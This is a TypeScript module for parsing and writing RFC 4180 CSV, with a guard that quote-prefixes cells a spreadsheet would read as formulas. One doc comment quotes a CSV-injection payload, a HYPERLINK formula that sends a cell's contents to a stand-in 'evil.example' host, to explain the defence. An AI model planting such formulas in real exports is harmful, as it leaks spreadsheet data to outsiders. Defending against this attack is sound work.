/**
 * RFC 4180 CSV, both ways. Small on purpose: fields separated by commas, records by CRLF or
 * LF, a field in double quotes may hold commas, line breaks and doubled quotes (`""`).
 */

export type CsvParse =
  | { readonly ok: true; readonly records: string[][] }
  | { readonly ok: false; readonly line: number; readonly reason: string };

/** Parses a whole document; a trailing line break does not make an empty record. */
export function parseCsv(text: string): CsvParse {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let line = 1;
  // NUL cannot be stored in text; a file full of them was most likely saved as UTF-16.
  const nul = text.indexOf('\u0000');
  if (nul >= 0)
    return {
      ok: false,
      line: text.slice(0, nul).split('\n').length,
      reason: 'a NUL character, which no field can hold (save the file as UTF-8 CSV)',
    };
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; // a byte-order mark from spreadsheet exports
  let fieldStart = true;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i += 1;
        const next = text[i];
        if (next !== undefined && next !== ',' && next !== '\n' && next !== '\r')
          return { ok: false, line, reason: 'a closing quote must end the field' };
        continue;
      }
      if (c === '\n') line += 1;
      field += c;
      i += 1;
      continue;
    }
    if (c === '"' && fieldStart) {
      quoted = true;
      fieldStart = false;
      i += 1;
      continue;
    }
    if (c === ',') {
      record.push(field);
      field = '';
      fieldStart = true;
      i += 1;
      continue;
    }
    if (c === '\r' || c === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      fieldStart = true;
      i += c === '\r' && text[i + 1] === '\n' ? 2 : 1;
      line += 1;
      continue;
    }
    field += c;
    fieldStart = false;
    i += 1;
  }
  if (quoted) return { ok: false, line, reason: 'a quoted field is never closed' };
  if (!fieldStart || field !== '' || record.length > 0) {
    record.push(field);
    records.push(record);
  }
  return { ok: true, records };
}

/**
 * What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): a text cell
 * `=HYPERLINK("http://evil.example/?"&A1,"Click")` would run when the file is opened.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell for a file people open in Excel or Sheets: one that a spreadsheet would read as a
 * formula gets a leading `'` (shown as text, not run) and is always quoted, as OWASP advises.
 * Only for text values: a number such as `-5` is written as it is.
 */
export function spreadsheetText(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** Undoes {@link spreadsheetText}: `'=x` is read as `=x`; any other `'` is the cell's own. */
export function fromSpreadsheetText(value: string): string {
  return isGuarded(value) ? value.slice(1) : value;
}

function isGuarded(value: string): boolean {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1));
}

/** One field, quoted only when it must be (or when {@link spreadsheetText} guarded it). */
export function csvField(value: string): string {
  return isGuarded(value) || /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** One record with its CRLF terminator, as RFC 4180 writes it. */
export function csvRecord(values: readonly string[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}
